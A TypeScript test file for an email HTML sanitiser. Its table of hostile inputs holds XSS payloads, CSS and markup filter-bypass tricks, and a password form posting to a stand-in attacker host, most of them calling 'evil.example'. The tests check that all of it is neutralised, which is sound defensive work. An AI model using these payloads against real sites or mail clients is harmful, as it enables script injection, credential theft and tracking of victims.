import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './sanitize-html';
import { findLiveContent } from './testing/find-live-content';

// Hostile inputs: each must come out with nothing that runs or loads. The oracle re-parses the
// output as a browser would; the string checks below are a second, dumber net.
const hostile: Record<string, string> = {
  'script tag': '<p>hi</p><script>fetch("https://evil.example/x")</script>',
  'mixed-case script': '<ScRiPt SRC=https://evil.example/x.js></sCrIpT>',
  'script in attribute-less broken markup': '<scr<script>ipt>alert(1)</script>',
  'event handlers': '<div onclick="alert(1)" ONMOUSEOVER=alert(2) onerror = x>t</div><body onload=alert(3)>',
  'img onerror': '<img src=x onerror="fetch(\'https://evil.example\')">',
  'svg onload': '<svg onload=alert(1)><image href="https://evil.example/a.png"/><script>alert(1)</script></svg>',
  'svg style breakout': '<svg><style><img src="https://evil.example/svg.png"></style></svg><p>after</p>',
  'math breakout': '<math><mtext><table><mglyph><style><img src=https://evil.example/m.png>',
  'javascript href': '<a href="javascript:alert(1)">x</a>',
  'entity-encoded javascript': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'hex-entity javascript': '<a href="jav&#x61;script:alert(1)">x</a><a href="jav&#x09;ascript:alert(1)">y</a>',
  'whitespace-obfuscated javascript': '<a href="  java\nscript\t:alert(1)">x</a><a href="\u0001javascript:alert(1)">y</a>',
  'vbscript and data links': '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>alert(1)</script>">d</a>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'base href': '<base href="https://evil.example/"><img src="x.png"><a href="y">y</a>',
  'form': '<form action="https://evil.example/steal" method=post><input name=pw type=password><button formaction="https://evil.example/2">Go</button><input type=image src="https://evil.example/btn.png"></form>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example/f"></iframe>',
  'frameset': '<frameset><frame src="https://evil.example/f"></frameset>',
  'object/embed/applet': '<object data="https://evil.example/o.swf"><param name=movie value="https://evil.example/p"></object><embed src="https://evil.example/e"><applet code=x codebase="https://evil.example/">',
  'css url in style attribute': '<div style="background:url(https://evil.example/bg.png)">x</div>',
  'css url quoted and spaced': '<div style="background-image: URL( \'//evil.example/bg.png\' )">x</div>',
  'css escapes': '<div style="background:\\75 \\72 \\6c (https://evil.example/esc.png)">x</div><div style="b\\61ckground:u\\rl(//evil.example/e2)">y</div>',
  'css comment split': '<div style="background:u/**/rl(https://evil.example/c.png);background:url/**/(https://evil.example/d.png)">x</div>',
  'css image-set strings': '<div style="background-image:image-set(\'https://evil.example/set.png\' 1x)">x</div><div style="background:-webkit-image-set(url(//evil.example/w.png) 1x)">y</div>',
  'css expression and behaviour': '<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  'style block import': '<style>@import "https://evil.example/a.css"; @import url(//evil.example/b.css) screen; p{color:red}</style><p>x</p>',
  'style block url and escape': '<style>p{background:url(https://evil.example/p.png)} div{background:\\000075rl(https://evil.example/q.png)}</style>',
  'style block closing trick': '<style>p{color:red}</style ><style>a{background:url("</style><img src=https://evil.example/t.png>")}</style>',
  'font-face': '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
  'background attribute': '<table background="https://evil.example/t.png"><tr><td background="//evil.example/td.png">x</td></tr></table><body background="https://evil.example/b.png">',
  'srcset and lowsrc': '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x" lowsrc="https://evil.example/l.png">',
  'picture source': '<picture><source srcset="https://evil.example/s.webp"><img src="https://evil.example/i.png"></picture>',
  'protocol-relative img': '<img src="//evil.example/pr.png"><IMG SRC="HTTPS://EVIL.EXAMPLE/UP.PNG">',
  'data svg image': '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
  'link stylesheet and prefetch': '<link rel=stylesheet href="https://evil.example/s.css"><link rel=dns-prefetch href="//evil.example"><link rel=preload href="https://evil.example/p">',
  'video audio': '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
  'unclosed tags': '<div><p><b><img src="https://evil.example/u.png"<a href="https://evil.example/x"',
  'unclosed attribute': '<img src="https://evil.example/v.png',
  'comment tricks': '<!--><img src="https://evil.example/c1.png">--><!-- --!><img src=https://evil.example/c2.png> --><!--[if mso]><img src="https://evil.example/mso.png"><![endif]-->',
  'cdata tricks': '<![CDATA[><img src="https://evil.example/cd.png">]]>',
  'noscript': '<noscript><p title="</noscript><img src=https://evil.example/ns.png>"></noscript>',
  'textarea and title raw text': '<title><img src=https://evil.example/ti.png></title><textarea><img src=x onerror=alert(1)></textarea>',
  'xmp and plaintext': '<xmp><img src=https://evil.example/xmp.png></xmp><plaintext><script>alert(1)',
  'ping and formaction': '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  'xlink': '<a xlink:href="javascript:alert(1)">x</a>',
  'null bytes': '<scr\u0000ipt>alert(1)</script><img src="https\u0000://evil.example/n.png">',
  'deep nesting': '<div>'.repeat(5_000) + '<img src="https://evil.example/deep.png">' + '</div>'.repeat(5_000),
  'class collision': '<p class="triage-blocked triage-banner keep">x</p><style>.triage-blocked{display:none}</style>',
  'attribute quote breakout': '<p title=\'a"><img src=https://evil.example/q.png>\'>x</p>',
  'template': '<template><img src="https://evil.example/tpl.png"></template>',
  'dialog portal fencedframe': '<portal src="https://evil.example/p"></portal><fencedframe src="https://evil.example/f"></fencedframe>',
};

describe('sanitizeEmailHtml on hostile input', () => {
  for (const [name, html] of Object.entries(hostile)) {
    it(`neutralises: ${name}`, () => {
      const { html: out } = sanitizeEmailHtml(html);
      expect(findLiveContent(out)).toEqual([]);
      expect(out).not.toMatch(/<script|<iframe|<object|<embed|<form|<svg|<math/i);
      expect(out).not.toMatch(/\s(?:on[a-z]+|href|srcset|formaction|ping|background|action)\s*=/i);
      expect(out).not.toMatch(/(?:src|style)="[^"]*(?:https?:|\/\/)/i);
      expect(out).not.toMatch(/url\s*\(\s*['"]?(?:https?:|\/\/)/i);
    });
  }
});

describe('sanitizeEmailHtml behaviour', () => {
  it('replaces remote images with a visible placeholder and records the URL', () => {
    const { html, blocked } = sanitizeEmailHtml('<p>Hi<img src="https://cdn.example/logo.png" width="120" height="40"></p>');
    expect(html).toContain('remote content blocked');
    expect(html).toContain('title="Remote image blocked: https://cdn.example/logo.png"');
    expect(blocked).toEqual([{ kind: 'image', url: 'https://cdn.example/logo.png' }]);
  });

  it('records each kind of blocked resource', () => {
    const { blocked } = sanitizeEmailHtml(
      '<style>@import "https://a.example/s.css"; p{background:url(https://b.example/p.png)}</style>' +
        '<td background="https://c.example/t.png"></td><link rel=stylesheet href="https://d.example/l.css"><iframe src="https://e.example/f"></iframe>',
    );
    expect(blocked).toEqual([
      { kind: 'stylesheet', url: 'https://a.example/s.css' },
      { kind: 'css-url', url: 'https://b.example/p.png' },
      { kind: 'image', url: 'https://c.example/t.png' },
      { kind: 'stylesheet', url: 'https://d.example/l.css' },
      { kind: 'other', url: 'https://e.example/f' },
    ]);
  });

  it('keeps link text but not the link, showing the destination', () => {
    const { html } = sanitizeEmailHtml('<a href="https://login.evil.example/?u=1&amp;b=2" target=_blank>Verify now</a>');
    expect(html).toContain('>Verify now</a>');
    expect(html).toContain('data-href="https://login.evil.example/?u=1&#38;b=2"');
    expect(html).toContain('title="Link to https://login.evil.example/?u=1&#38;b=2, not followable from the preview"');
    expect(html).not.toMatch(/\shref=|target=/);
  });

  it('shows cid images from the resolver and a placeholder otherwise', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    const shown = sanitizeEmailHtml('<img src="cid:logo@x">', { cidImages: { '<logo@x>': png } });
    expect(shown.html).toContain(`<img src="${png}">`);
    const missing = sanitizeEmailHtml('<img src="cid:other@x">', { cidImages: { 'logo@x': png } });
    expect(missing.html).toContain('inline image (cid:other@x)');
    const unsafe = sanitizeEmailHtml('<img src="cid:logo@x">', { cidImages: { 'logo@x': 'https://evil.example/x.png' } });
    expect(unsafe.html).not.toContain('evil.example');
  });

  it('keeps inline raster data images within the size bound only', () => {
    const small = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    expect(sanitizeEmailHtml(`<img src="${small}">`).html).toContain(`<img src="${small}">`);
    expect(sanitizeEmailHtml(`<img src="${small}">`, { maxInlineImageChars: 10 }).html).not.toContain('<img');
  });

  it('keeps formatting, tables and safe CSS', () => {
    const { html } = sanitizeEmailHtml(
      '<table cellpadding=4 bgcolor="#eee"><tr><td style="color:#c00;font-weight:bold">Due <b>today</b></td></tr></table><center><font face=Arial color=red>x</font></center>',
    );
    expect(html).toContain('<table cellpadding="4" bgcolor="#eee"><tr><td style="color:#c00;font-weight:bold">Due <b>today</b></td></tr></table>');
    expect(html).toContain('<center><font face="Arial" color="red">x</font></center>');
  });

  it('returns a complete document with charset, CSP meta and placeholder styles', () => {
    const { html } = sanitizeEmailHtml('x');
    expect(html).toMatch(/^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"/);
    expect(html).toContain('.triage-blocked{');
  });

  it('truncates huge input with a note, in bounded time', () => {
    const huge = '<div><p>spam <img src="https://evil.example/x.png"></p></div>'.repeat(60_000);
    const started = performance.now();
    const { html, truncated, blocked } = sanitizeEmailHtml(huge);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(truncated).toBe(true);
    expect(html).toContain('the preview shows the first 2,000,000');
    expect(blocked.length).toBe(500);
    expect(html).toMatch(/\d+ more blocked addresses are not listed/);
  });

  it('stays linear on pathological nesting', () => {
    const started = performance.now();
    sanitizeEmailHtml('<div>'.repeat(300_000) + '</span>'.repeat(100_000));
    sanitizeEmailHtml('<a>'.repeat(200_000));
    sanitizeEmailHtml('<p style="' + 'url('.repeat(100_000) + '">');
    sanitizeEmailHtml('<style>' + '/*'.repeat(100_000) + '\\'.repeat(100_000) + '</style>');
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('never throws, whatever it is given', () => {
    for (const input of [undefined, null, 42, {}, '', '<', '</', '<!', '<!--', '<a href', '\uD800', '<\u0000>'] as unknown[]) {
      expect(() => sanitizeEmailHtml(input as string)).not.toThrow();
    }
  });
});
